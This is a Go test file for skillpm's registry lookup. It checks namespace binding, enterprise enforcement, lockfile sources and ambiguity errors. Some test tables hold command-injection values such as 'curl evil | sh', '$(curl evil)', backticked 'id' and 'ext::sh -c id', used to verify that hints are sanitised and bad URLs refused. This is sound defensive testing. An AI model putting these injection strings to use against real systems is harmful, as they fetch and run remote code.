package registry_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/skillpm/skillpm/pkg/diag"
	"github.com/skillpm/skillpm/pkg/internal/testkit/ocitest"
	"github.com/skillpm/skillpm/pkg/internal/testkit/registrytest"
	"github.com/skillpm/skillpm/pkg/pack"
	"github.com/skillpm/skillpm/pkg/source/oci"
	"github.com/skillpm/skillpm/pkg/source/registry"
)

// fixture is a directory with registries: indexes one and two, an OCI server, a local layout and an embedded index.
type fixture struct {
	dir    string
	server *ocitest.Server
	deps   registry.Deps
}

func newFixture(t *testing.T) fixture {
	t.Helper()
	w := fixture{dir: t.TempDir(), server: ocitest.New(t)}
	client := oci.New(oci.Options{Base: w.dir, Local: filepath.Join(w.dir, "local"), Transport: w.server.Transport(t), Retries: -1})
	one := registrytest.Pack("acme/one", "1.0.0", "one")
	both := registrytest.Pack("acme/both", "1.0.0", "both")
	indexWithLayout(t, filepath.Join(w.dir, "one"), []registrytest.Published{one, both})
	indexWithLayout(t, filepath.Join(w.dir, "two"), []registrytest.Published{both, registrytest.Pack("globex/two", "1.0.0", "two")})
	indexWithLayout(t, filepath.Join(w.dir, "embedded"), []registrytest.Published{
		registrytest.Pack("acme/both", "9.0.0", "both"), registrytest.Pack("demo/embedded", "1.0.0", "demo"), registrytest.Pack("skillpm/own", "1.0.0", "own"),
	})
	pushAll(t, client, func(id pack.ID) pack.Ref { return pack.Ref{Kind: pack.KindLocal, ID: id} }, []registrytest.Published{
		registrytest.Pack("me/mine", "1.0.0", "mine"), registrytest.Pack("demo/embedded", "2.0.0", "demo"), one,
	})
	pushAll(t, client, func(id pack.ID) pack.Ref {
		return pack.Ref{Kind: pack.KindOCI, URL: registry.Repository(w.server.URL("ns"), id)}
	}, []registrytest.Published{registrytest.Pack("acme/one", "5.0.0", "one"), registrytest.Pack("corp/tool", "1.0.0", "tool")})
	w.deps = registry.Deps{OCI: client, Base: w.dir, Embedded: os.DirFS(filepath.Join(w.dir, "embedded"))}
	return w
}

func parseID(t *testing.T, s string) pack.ID {
	t.Helper()
	id, err := pack.ParseID(s)
	if err != nil {
		t.Fatal(err)
	}
	return id
}

// TestFind checks the rules by which registries answer for names (M2).
func TestFind(t *testing.T) {
	w := newFixture(t)
	prefix := w.server.URL("ns")
	one, two := registry.Named{Name: "first", URL: "one"}, registry.Named{URL: "two"}
	down := registry.Named{Name: "down", URL: "oci://127.0.0.1:1/ns"}
	rebound := map[string]*registry.ReboundError{"acme": {Owner: "acme", Project: "one", User: "two"}}
	for _, tt := range []struct {
		name   string
		config registry.Config
		pack   string
		want   string // the registry's name, or words of the error
		code   diag.Code
	}{
		{"nothing configured: local", registry.Config{}, "me/mine", "local", 0},
		{"nothing configured: embedded", registry.Config{}, "acme/both", "embedded", 0},
		{"local before embedded", registry.Config{}, "demo/embedded", "local", 0},
		{"nowhere", registry.Config{}, "no/where", "searched: local, embedded", diag.NotFound},
		{"an index", registry.Config{Registries: []registry.Named{one}}, "acme/one", "first", 0},
		{"an index before local", registry.Config{Registries: []registry.Named{one, two}}, "acme/one", "first", 0},
		{"the second index", registry.Config{Registries: []registry.Named{one, two}}, "globex/two", "two", 0},
		{"not in the indexes, but local", registry.Config{Registries: []registry.Named{one, two}}, "me/mine", "skillpm install me/mine --registry local", diag.NotFound},
		{"another owner is bound: not embedded", registry.Config{Namespaces: map[string]string{"corp": prefix}}, "acme/both", "no registry is configured", diag.NotFound},
		{"another owner is bound by the enterprise: not embedded", registry.Config{Enforced: map[string]string{"corp": prefix}}, "acme/both", "no registry contains the pack", diag.NotFound},
		{"skillpm's own", registry.Config{Registries: []registry.Named{one, down}}, "skillpm/own", "embedded", 0},
		{"skillpm's own, bound", registry.Config{Namespaces: map[string]string{"skillpm": "one"}}, "skillpm/own", "one does not contain the pack", diag.NotFound},
		{"a prefix that is the user's only registry", registry.Config{Registries: []registry.Named{one, {URL: prefix, Sole: true}}}, "corp/tool", prefix, 0},
		{"such a prefix competes", registry.Config{Registries: []registry.Named{one, {URL: prefix, Sole: true}}}, "acme/one", "is ambiguous", diag.Conflict},
		{"the project binds another registry than the user", registry.Config{Namespaces: map[string]string{"acme": "two"}, Rebound: rebound}, "acme/one", "skillpm registry bind acme one --accept", diag.Denied},
		{"the same, and an override", registry.Config{Namespaces: map[string]string{"acme": "two"}, Rebound: rebound, Override: "one"}, "acme/one", "one", 0},
		{"the same, and the enterprise", registry.Config{Registries: []registry.Named{one}, Enforced: map[string]string{"acme": "one"}, Rebound: rebound}, "acme/one", "first", 0},
		{"in both indexes", registry.Config{Registries: []registry.Named{one, two}}, "acme/both", "in first and two", diag.Conflict},
		{"the same index twice", registry.Config{Registries: []registry.Named{one, {URL: "one/"}}}, "acme/both", "first", 0},
		{"in both, bound by name", registry.Config{Registries: []registry.Named{one, two}, Namespaces: map[string]string{"acme": "one"}}, "acme/both", "first", 0},
		{"in both, bound by URL", registry.Config{Registries: []registry.Named{one, two}, Namespaces: map[string]string{"acme": "two"}}, "acme/both", "two", 0},
		{"bound, and elsewhere", registry.Config{Registries: []registry.Named{one, two}, Namespaces: map[string]string{"acme": "two"}}, "acme/one", "two does not contain the pack acme/one", diag.NotFound},
		{"bound to what is not listed", registry.Config{Namespaces: map[string]string{"corp": prefix}}, "corp/tool", prefix, 0},
		{"the enterprise's binding wins", registry.Config{Namespaces: map[string]string{"acme": "one"}, Enforced: map[string]string{"acme": prefix}}, "acme/one", prefix, 0},
		{"a prefix alone answers for all", registry.Config{Registries: []registry.Named{{URL: prefix}}}, "corp/tool", prefix, 0},
		{"a prefix beside an index does not", registry.Config{Registries: []registry.Named{one, {URL: prefix}}}, "corp/tool", "skillpm registry bind corp oci://", diag.NotFound},
		{"a prefix beside an index does not compete", registry.Config{Registries: []registry.Named{one, {URL: prefix}}}, "acme/one", "first", 0},
		{"one is out of reach", registry.Config{Registries: []registry.Named{down}}, "acme/one", "cannot look up acme/one in down", diag.Remote},
		{"one is no index", registry.Config{Registries: []registry.Named{one, {URL: "."}}}, "me/mine", "is not an index", diag.Invalid},
		{"one is not there", registry.Config{Registries: []registry.Named{one, {URL: "./gone"}}}, "acme/one", "does not exist", diag.NotFound},
		{"an override", registry.Config{Registries: []registry.Named{one}, Override: "two"}, "acme/both", "two", 0},
		{"an override goes before bindings", registry.Config{Namespaces: map[string]string{"acme": prefix}, Override: "one"}, "acme/one", "one", 0},
		{"an override has no fallback", registry.Config{Override: "two"}, "me/mine", "two does not contain the pack", diag.NotFound},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r, err := registry.NewSet(tt.config, w.deps).Find(t.Context(), parseID(t, tt.pack), "")
			if tt.code != 0 {
				if diag.CodeOf(err) != tt.code || !strings.Contains(err.Error()+diag.HintOf(err), tt.want) {
					t.Errorf("got %v (%v, hint %q), want %q", err, diag.CodeOf(err), diag.HintOf(err), tt.want)
				}
				return
			}
			if err != nil || r.Name() != tt.want {
				t.Errorf("got %v %v, want %s", r, err, tt.want)
			}
		})
	}
}

// TestReboundHint checks that the command in the hint is safe to copy, whatever the project's file has.
func TestReboundHint(t *testing.T) {
	for address, want := range map[string]string{
		"oci://r.example:5000/acme": "skillpm registry bind acme oci://r.example:5000/acme --accept",
		"./packs; curl evil | sh":   "skillpm registry bind acme REGISTRY --accept",
		"./$(curl evil)":            "skillpm registry bind acme REGISTRY --accept",
		"./packs\u202e":             "skillpm registry bind acme REGISTRY --accept",
	} {
		hint := (&registry.ReboundError{Owner: "acme", Project: address, User: "one"}).Hint()
		if !strings.HasSuffix(hint, want) {
			t.Errorf("%q: hint %q, want %q", address, hint, want)
		}
	}
}

// TestFindRequired checks that the built-in registries never answer for what a pack from elsewhere requires, except for
// packs of skillpm.
func TestFindRequired(t *testing.T) {
	w := newFixture(t)
	set := registry.NewSet(registry.Config{}, w.deps)
	for _, name := range []string{"me/mine", "acme/both", "demo/embedded"} {
		r, err := set.FindRequired(t.Context(), parseID(t, name))
		if diag.CodeOf(err) != diag.NotFound || !strings.Contains(err.Error(), "no registry is configured") {
			t.Errorf("%s: got %v %v, want not found", name, r, err)
		}
		if !strings.Contains(diag.HintOf(err), "skillpm registry add NAME URL --namespace "+parseID(t, name).Owner) {
			t.Errorf("%s: hint %q", name, diag.HintOf(err))
		}
	}
	if r, err := set.FindRequired(t.Context(), parseID(t, "skillpm/own")); err != nil || r.Name() != "embedded" {
		t.Errorf("skillpm/own: got %v %v", r, err)
	}
}

// TestEnforced checks that neither a registry of one call nor a lockfile can answer for a namespace that the enterprise
// has bound to another registry.
func TestEnforced(t *testing.T) {
	w := newFixture(t)
	prefix := w.server.URL("ns")
	config := registry.Config{Enforced: map[string]string{"acme": prefix}, Registries: []registry.Named{{URL: "one"}}}
	id := parseID(t, "acme/one")
	for _, at := range []string{"", prefix + "/acme/one"} {
		if r, err := registry.NewSet(config, w.deps).Find(t.Context(), id, at); err != nil || r.Name() != prefix {
			t.Errorf("locked to %q: got %v %v, want %s", at, r, err, prefix)
		}
	}
	for _, at := range []string{"local", "embedded", "oci-layout:one/layout", "oci://evil.example/acme/one"} {
		if _, err := registry.NewSet(config, w.deps).Find(t.Context(), id, at); diag.CodeOf(err) != diag.Denied {
			t.Errorf("locked to %s: got %v, want denied", at, err)
		}
	}
	config.Override = "one"
	if _, err := registry.NewSet(config, w.deps).Find(t.Context(), id, ""); diag.CodeOf(err) != diag.Denied {
		t.Errorf("overridden: got %v, want denied", err)
	}
}

func TestAmbiguous(t *testing.T) {
	w := newFixture(t)
	set := registry.NewSet(registry.Config{Registries: []registry.Named{{URL: "one"}, {URL: "two"}}}, w.deps)
	_, err := set.Find(t.Context(), parseID(t, "acme/both"), "")
	var ambiguous *registry.AmbiguousError
	if !errors.As(err, &ambiguous) || len(ambiguous.Registries) != 2 || !strings.Contains(diag.HintOf(err), "skillpm registry bind acme ") {
		t.Errorf("got %v, hint %q", err, diag.HintOf(err))
	}
	for _, address := range []string{"https://r.example/$(id)", "./a;id", "-x", "`id`", "a\nb"} { // a project chooses it
		ambiguous := &registry.AmbiguousError{Pack: parseID(t, "acme/both"), Registries: []string{address, "two"}}
		if hint := ambiguous.Hint(); strings.Contains(hint, address) || !strings.Contains(hint, "bind acme REGISTRY") {
			t.Errorf("%q: hint %q", address, hint)
		}
	}
}

// TestFindLocked checks that a locked name is looked up only in its locked registry.
func TestFindLocked(t *testing.T) {
	w := newFixture(t)
	prefix := w.server.URL("ns")
	for _, tt := range []struct {
		name, pack, source string
		config             registry.Config
		want               string // the highest version there, or words of the error
		code               diag.Code
	}{
		{"embedded, and an index has it", "acme/both", "embedded", registry.Config{Registries: []registry.Named{{URL: "one"}}}, "9.0.0", 0},
		{"local", "acme/one", "local", registry.Config{Registries: []registry.Named{{URL: "one"}}}, "1.0.0", 0},
		{"local, and gone there", "globex/two", "local", registry.Config{Registries: []registry.Named{{URL: "two"}}}, "local does not contain the pack", diag.NotFound},
		{"a configured prefix", "acme/one", prefix + "/acme/one", registry.Config{Registries: []registry.Named{{URL: "one"}, {URL: prefix}}}, "5.0.0", 0},
		{"a repository that no registry knows", "acme/one", prefix + "/acme/one", registry.Config{Registries: []registry.Named{{URL: "one"}}}, "5.0.0", 0},
		{"one index of two", "acme/both", "oci-layout:two/layout", registry.Config{Registries: []registry.Named{{URL: "one"}, {URL: "two"}}}, "1.0.0", 0},
		{"a layout that no registry knows", "acme/both", "oci-layout:two/layout", registry.Config{}, "1.0.0", 0},
		{"git that no registry knows", "acme/one", "git+https://git.example/acme/one.git", registry.Config{Registries: []registry.Named{{URL: "one"}}}, "which is not in a configured registry", diag.NotFound},
		{"an override does not count", "acme/both", "embedded", registry.Config{Override: "one"}, "9.0.0", 0},
		{"nonsense", "acme/both", "file:///etc", registry.Config{}, "which is not in a configured registry", diag.NotFound},
	} {
		t.Run(tt.name, func(t *testing.T) {
			id := parseID(t, tt.pack)
			r, err := registry.NewSet(tt.config, w.deps).Find(t.Context(), id, tt.source)
			if tt.code != 0 {
				if diag.CodeOf(err) != tt.code || !strings.Contains(err.Error(), tt.want) {
					t.Errorf("got %v (%v), want %q", err, diag.CodeOf(err), tt.want)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			versions, err := r.Versions(t.Context(), id)
			if err != nil || versions[0].Version != tt.want || versions[0].Source != tt.source {
				t.Fatalf("got %+v %v, want %s at %s", versions, err, tt.want, tt.source)
			}
			p, err := r.Pack(t.Context(), id, tt.want)
			if err != nil || p.Ref.Source() != tt.source {
				t.Errorf("got %+v %v", p, err)
			}
		})
	}
}

func TestRepository(t *testing.T) {
	id := pack.ID{Owner: "acme", Name: "deploy"}
	for prefix, want := range map[string]string{
		"oci://r.example/acme":           "oci://r.example/acme/deploy",
		"oci://r.example/acme/":          "oci://r.example/acme/deploy",
		"oci://r.example/team/acme":      "oci://r.example/team/acme/deploy",
		"oci://r.example/packs":          "oci://r.example/packs/acme/deploy",
		"oci://r.example/acme/packs":     "oci://r.example/acme/packs/acme/deploy",
		"oci://r.example/acme/deploy":    "oci://r.example/acme/deploy",
		"oci://r.example/x/acme/deploy/": "oci://r.example/x/acme/deploy",
		"oci://r.example/xacme/deploy":   "oci://r.example/xacme/deploy/acme/deploy",
		"oci://acme/deploy":              "oci://acme/deploy/acme/deploy",
		"oci://acme":                     "oci://acme/acme/deploy",
		"oci://127.0.0.1:5000":           "oci://127.0.0.1:5000/acme/deploy",
	} {
		if got := registry.Repository(prefix, id); got != want {
			t.Errorf("%s: got %s, want %s", prefix, got, want)
		}
	}
}

func TestOpenRefuses(t *testing.T) {
	deps := registry.Deps{OCI: oci.New(oci.Options{}), Base: t.TempDir()}
	for url, code := range map[string]diag.Code{
		"http://index.example":           diag.Usage,
		"https://user:secret@index.x/":   diag.Usage,
		"https://index.example/?token=x": diag.Usage,
		"oci://":                         diag.Usage,
		"oci://r.example/UPPER":          diag.Usage,
		"oci://r.example/a:tag":          diag.Usage,
		"oci-layout:":                    diag.Usage,
		"ext::sh -c id":                  diag.NotFound,
		"./none":                         diag.NotFound,
		"embedded":                       diag.NotFound,
	} {
		_, err := registry.Open(t.Context(), "", url, deps)
		if diag.CodeOf(err) != code || strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: %v (%v), want %v", url, err, diag.CodeOf(err), code)
		}
	}
}

// TestPrefixHoldsAnotherPack uses a repository with a pack that has another name.
func TestPrefixHoldsAnotherPack(t *testing.T) {
	s := ocitest.New(t)
	c := s.Client(t, "")
	pushAll(t, c, func(pack.ID) pack.Ref { return pack.Ref{Kind: pack.KindOCI, URL: s.URL("acme/deploy")} },
		[]registrytest.Published{registrytest.Pack("evil/deploy", "1.0.0", "deploy")})
	_, err := open(t, s.URL("acme"), registry.Deps{OCI: c}).Pack(t.Context(), parseID(t, "acme/deploy"), "1.0.0")
	if diag.CodeOf(err) != diag.Integrity || !strings.Contains(err.Error(), "evil/deploy@1.0.0") {
		t.Errorf("got %v", err)
	}
}
